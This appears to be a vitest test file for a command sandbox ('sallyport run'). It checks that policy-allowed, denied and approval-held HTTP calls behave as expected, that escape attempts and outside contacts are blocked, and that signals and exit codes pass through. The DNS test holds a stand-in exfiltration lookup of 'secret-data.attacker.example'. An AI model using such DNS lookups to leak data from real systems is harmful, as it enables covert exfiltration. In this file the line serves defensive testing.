import { once } from 'node:events';
import fs from 'node:fs';
import { networkInterfaces } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { until } from '../../support/programs/processes.ts';
import { attempt, escapes } from './escapes.ts';
import { type IsolatedStage, startIsolatedStage } from './isolated-stage.ts';

let stage: IsolatedStage;

beforeAll(async () => {
  stage = await startIsolatedStage();
  for (const name of ['allowed', 'denied', 'held']) {
    await stage.api('PUT', `/v1/runtime/bindings/${name}`, {
      protocol: 'http',
      host: stage.upstream,
      method: 'GET',
      path: `/${name}`,
      tool: `test.${name}`,
      resource: 'page:1',
    });
  }
  const rule = (name: string, decision: string, more: object = {}) => ({
    name,
    decision,
    reason: `test.${name}`,
    when: { all: [{ path: 'tool.name', operator: '==', value: `test.${name}` }] },
    ...more,
  });
  await stage.api('POST', '/v1/policies', {
    name: 'Isolated',
    rules_json: {
      id: 'isolated',
      version: 1,
      description: 'One of each decision',
      rules: [
        rule('allowed', 'allow'),
        rule('denied', 'deny'),
        rule('held', 'require_approval', { approval: { channel: 'api', min_role: 'approver' } }),
      ],
    },
    publish: true,
  });
  let last = '';
  await until(
    'the policy reaches the sidecar',
    async () => {
      const { out } = await stage.run(['curl', '-s', `http://${stage.upstream}/allowed`]);
      last = out;
      return out.includes('upstream answers');
    },
    30_000,
  ).catch((error: Error) => {
    throw new Error(`${error.message}: ${last}`);
  });
});
afterAll(() => stage?.close());

/** Clients without a proxy setting, each of which prints the status and the body. */
const clients: Readonly<Record<string, (url: string) => string[]>> = {
  curl: (url) => ['curl', '-s', '-w', '%{http_code}', url],
  Node: (url) => [
    process.execPath,
    '-e',
    `fetch('${url}').then(async (r) => console.log(await r.text(), r.status))`,
  ],
  Python: (url) => [
    '/usr/bin/python3',
    '-c',
    `import http.client, urllib.parse as p
u = p.urlsplit('${url}'); c = http.client.HTTPConnection(u.netloc); c.request('GET', u.path); r = c.getresponse()
print(r.read().decode(), r.status)`,
  ],
};

describe.each(Object.entries(clients))(
  'an unmodified %s client in an isolated run',
  (_, client) => {
    it('gets the response of an allowed call', async () => {
      const { out, code } = await stage.run(client(`http://${stage.upstream}/allowed`));
      expect(out).toContain('upstream answers /allowed');
      expect(code).toBe(0);
    });

    it('gets the reason of a denied call', async () => {
      const { out } = await stage.run(client(`http://${stage.upstream}/denied`));
      expect(out).toContain('test.denied');
      expect(out).toContain('403');
      expect(stage.calls()).not.toContain('GET /denied');
    });

    it('gets the response of a held call after its approval', async () => {
      const before = stage.calls().filter((call) => call === 'GET /held').length;
      const running = stage.run(client(`http://${stage.upstream}/held`), {});
      await until('an approval is pending', async () => {
        const { approvals } = await stage.api('GET', '/v1/approvals?status=pending');
        const [first] = approvals as { id: number }[];
        if (first === undefined) return false;
        await stage.api('POST', `/v1/approvals/${first.id}/decide`, {
          action: 'approve',
          comment: 'ok',
        });
        return true;
      });
      expect((await running).out).toContain('upstream answers /held');
      expect(stage.calls().filter((call) => call === 'GET /held').length).toBe(before + 1);
    });
  },
);

describe('an isolated run denies', () => {
  it.each(escapes.map((one) => [one.name, one] as const))('%s', async (_, { python }) => {
    const before = stage.host.contacts().length;
    const { out } = await stage.run(['/usr/bin/python3', '-c', python(stage, hostAddress())]);
    expect(out).not.toContain('ESCAPED');
    expect(out).toContain('held');
    expect(stage.host.contacts().slice(before)).toEqual([]);
  });

  it('only attempts from inside: the host itself reaches the server that the attempts address', async () => {
    const { tcp } = stage.host;
    const { connect } = await import('node:net');
    const socket = connect(tcp, hostAddress());
    const [data] = (await once(socket, 'data')) as [Buffer];
    expect(data.toString()).toContain('host answers');
  });
});

describe('the DNS of an isolated run', () => {
  it('answers every name with a synthetic address, whatever server is asked', async () => {
    const query = attempt(
      `socket.getaddrinfo('secret-data.attacker.example', 80)[0][4][0].startswith(('198.18', '198.19', 'fd53:')) and False`,
    );
    expect((await stage.run(['/usr/bin/python3', '-c', query])).out).toContain('held\n');
  });
});

describe('an isolated run', () => {
  it.each([
    [['sh', '-c', 'exit 7'], 7],
    [['sh', '-c', 'kill -TERM $$'], 143],
    [['no-such-command'], 127],
  ])('returns the exit code of %j', async (command, code) => {
    expect((await stage.run(command)).code).toBe(code);
  });

  it('keeps the working directory and standard input', async () => {
    const child = stage.start(['sh', '-c', 'pwd; cat']);
    child.stdin?.end('typed\n');
    let out = '';
    child.stdout?.on('data', (chunk) => {
      out += chunk;
    });
    await once(child, 'close');
    expect(out).toBe(`${join(stage.folder, 'work')}\ntyped\n`);
  });

  it('forwards a signal to the command', async () => {
    const child = stage.start([
      'sh',
      '-c',
      'trap "echo caught; exit 3" USR2; echo ready; while :; do sleep 0.1; done',
    ]);
    let out = '';
    child.stdout?.on('data', (chunk) => {
      out += chunk;
      if (out === 'ready\n') child.kill('SIGUSR2');
    });
    const [code] = await once(child, 'close');
    expect([out, code]).toEqual(['ready\ncaught\n', 3]);
  });

  it('ends every process of the command when `sallyport run` is killed', async () => {
    const child = stage.start(['sh', '-c', 'while :; do date +%s%N > beat; sleep 0.05; done']);
    const beat = join(stage.folder, 'work', 'beat');
    await until('the command runs', () => fs.existsSync(beat));
    child.kill('SIGKILL');
    await once(child, 'exit');
    let last = '';
    await until('the command has ended', async () => {
      const now = fs.readFileSync(beat, 'utf8');
      const isSame = now === last;
      last = now;
      await new Promise((resolve) => setTimeout(resolve, 500));
      return isSame;
    });
  });

  it('refuses to start in a folder that it hides', async () => {
    const child = await stage.run(['true'], { XDG_RUNTIME_DIR: join(stage.folder, 'work') });
    expect(child.code).toBe(1);
    expect(child.out).toContain('run.isolation_folder_hidden');
  });

  // This test is the last one, because it ends the sidecar.
  it('has no network after the end of the sidecar', async () => {
    const child = stage.start([
      'sh',
      '-c',
      `echo ready; read line; curl -sS -m 10 http://${stage.upstream}/allowed; echo "curl $?"`,
    ]);
    let out = '';
    child.stdout?.on('data', (chunk) => {
      out += chunk;
    });
    await until('the command runs', () => out.includes('ready'));
    await stage.stopSidecar();
    child.stdin?.end('go\n');
    await once(child, 'close');
    expect(out).toMatch(/curl (6|7)\n$/);
    expect(out).not.toContain('upstream answers');
  });
});

function hostAddress(): string {
  const addresses = Object.values(networkInterfaces()).flatMap((list) => list ?? []);
  const outer = addresses.find(({ family, internal }) => family === 'IPv4' && !internal);
  // The host's own 127.0.0.1 is also outside of the namespace.
  return outer?.address ?? '127.0.0.1';
}
